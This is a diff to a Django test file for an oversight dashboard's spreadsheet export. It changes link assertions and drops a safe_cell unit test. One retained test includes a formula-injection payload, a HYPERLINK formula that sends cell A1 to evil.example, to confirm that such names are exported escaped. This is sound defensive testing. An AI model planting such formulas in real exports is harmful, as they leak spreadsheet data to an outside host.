@@ -9,7 +9,6 @@ import io
 import pytest
 from django.urls import reverse
 
-from oversight.export import safe_cell
 from tests.factories import ReviewerFactory
 from tests.oversight.worlds import small_world
 
@@ -42,7 +41,13 @@ def test_the_export_is_an_attachment_with_every_figure(client, world):
     assert cells[("Audits", "Disclosure", "projects failing in the latest run")] == "2"
     assert cells[("Per month", "2026-03", "decisions")] == "4"
     links = {(figure, row, measure): link for figure, row, measure, _value, link in table[1:]}
-    assert links[("Must change", "EV-5", "marks")] == reverse("project-list") + "?must_change=EV-5"
+    assert links[("Must change", "EV-5", "projects")] == reverse("project-list") + "?must_change=EV-5"
+    # A number no project list has the size of carries no link (the marks count verdicts).
+    assert links[("Must change", "EV-5", "marks")] == ""
+    assert links[("Per month", "2026-03", "decisions")] == ""
+    assert links[("Turnaround", str(world.v1), "decided projects")] == ""
+    assert links[("Waiting", "Reviews overdue", "reviews")] == ""
+    assert links[("Waiting", "Reviews overdue", "projects")] == reverse("project-list") + "?overdue=1"
 
 
 def test_the_export_keeps_the_dashboards_filters(client, world):
@@ -67,17 +72,3 @@ def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, world):
     assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
     assert {"'+1 555 0100", "'@SUM(A1:A9)", "'-2+3"} <= names
     assert not any(name[:1] in "=+-@" for name in names)
-
-
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [
-        pytest.param("=1+1", "'=1+1", id="equals"),
-        pytest.param("\tcmd", "'\tcmd", id="tab"),
-        pytest.param("Approved", "Approved", id="plain"),
-        pytest.param(3, 3, id="number"),
-        pytest.param(-2.5, -2.5, id="negative-number"),
-    ],
-)
-def test_safe_cell(value, expected):
-    assert safe_cell(value) == expected
